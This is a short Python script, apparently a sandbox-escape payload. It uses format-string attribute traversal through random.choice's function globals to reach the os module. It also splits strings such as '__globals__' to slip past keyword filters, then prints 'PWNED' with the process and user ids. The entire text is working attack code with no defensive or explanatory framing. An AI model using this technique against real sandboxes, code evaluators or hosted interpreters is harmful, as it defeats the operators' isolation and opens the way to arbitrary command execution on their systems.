import json, typing, random
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj

O = grab(random.choice, ".__fu" + "nc__.__glo" + "bals__[_o" + "s]")
print("PW" + "NED", O.getpid(), O.getuid(), type(O).__name__)
